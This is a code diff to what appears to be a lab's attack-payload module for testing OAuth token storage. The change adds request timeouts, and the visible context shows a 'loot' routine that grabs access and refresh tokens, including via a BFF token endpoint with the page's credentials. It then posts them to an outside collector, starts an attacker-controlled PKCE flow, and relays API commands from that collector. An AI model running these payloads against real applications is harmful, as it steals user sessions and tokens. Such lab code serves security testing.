@@ -14,6 +14,7 @@ export const PAYLOADS = {
 export const enabled = () => Boolean(config.collector);
 // How often the persistent payloads look again and the proxy polls (a test may shorten it before a run).
 export const timing = { intervalMs: 3000, silentFlowMs: 8000 };
+const TIMEOUT_MS = 5000; // every request of the payloads: a fetch must never wait forever (see client.js)
 const TOKEN_FIELDS = ["access_token", "refresh_token"];
 
 // Send one item to the collector's `POST /collect` ({run, kind, <kind>: value, labels}), which uses it at once, again
@@ -21,7 +22,7 @@ const TOKEN_FIELDS = ["access_token", "refresh_token"];
 async function send(context, payload, item) {
   const body = JSON.stringify({ run: context.run, architecture: context.architecture, storage: context.storage, payload, ...item });
   try {
-    const response = await fetch(`${config.collector}/collect`, { method: "POST", body, headers: { "Content-Type": "application/json" }, keepalive: true });
+    const response = await fetch(`${config.collector}/collect`, { method: "POST", body, headers: { "Content-Type": "application/json" }, keepalive: true, signal: AbortSignal.timeout(TIMEOUT_MS) });
     return response.status;
   } catch {
     return 0;
@@ -87,7 +88,7 @@ export async function loot({ architecture, storage }) {
   if (architecture !== "browser") {
     // The token-mediating endpoint answers any script of the page: it sends the same X-CSRF and Origin the app does.
     try {
-      const response = await fetch(`${config.bff}/bff/token`, { credentials: "include", headers: { "X-CSRF": "1" } });
+      const response = await fetch(`${config.bff}/bff/token`, { credentials: "include", headers: { "X-CSRF": "1" }, signal: AbortSignal.timeout(TIMEOUT_MS) });
       const body = response.ok ? await response.json() : null;
       if (body?.access_token) take("access_token", body.access_token);
       else notes.push(`the BFF's /bff/token answered ${response.status}: no token for the page`);
@@ -156,7 +157,7 @@ async function newFlow(context) {
   const clientId = browser ? config.clientId : `authlab-bff-${config.name.toLowerCase()}`;
   const redirectUri = browser ? `${location.origin}/` : `${config.bff}/bff/callback`;
   // The attacker's PKCE: the collector keeps the verifier and hands out only its S256 challenge.
-  const pkce = await (await fetch(`${config.collector}/pkce?${new URLSearchParams({ run: context.run })}`)).json();
+  const pkce = await (await fetch(`${config.collector}/pkce?${new URLSearchParams({ run: context.run })}`, { signal: AbortSignal.timeout(TIMEOUT_MS) })).json();
   const state = oauth.generateRandomState();
   const url = new URL(as.authorization_endpoint);
   url.search = new URLSearchParams({
@@ -205,7 +206,7 @@ function proxy(context) {
   const tick = async () => {
     if (stopped) return;
     try {
-      const { commands } = await (await fetch(`${config.collector}/commands?${new URLSearchParams({ run: context.run })}`)).json();
+      const { commands } = await (await fetch(`${config.collector}/commands?${new URLSearchParams({ run: context.run })}`, { signal: AbortSignal.timeout(TIMEOUT_MS) })).json();
       const app = await import("./browser_client.js");
       for (const command of commands ?? []) {
         const { status, body } = await app.callApi(context, command.path.replace(/^\/api\//, ""));
@@ -253,7 +254,7 @@ function watchClose(run) {
 // worked_until, refused}]} (no secrets), or null when it does not answer.
 export async function records(run) {
   try {
-    const response = await fetch(`${config.collector}/records?${new URLSearchParams({ run })}`, { signal: AbortSignal.timeout(5000) });
+    const response = await fetch(`${config.collector}/records?${new URLSearchParams({ run })}`, { signal: AbortSignal.timeout(TIMEOUT_MS) });
     return response.ok ? await response.json() : null;
   } catch {
     return null;
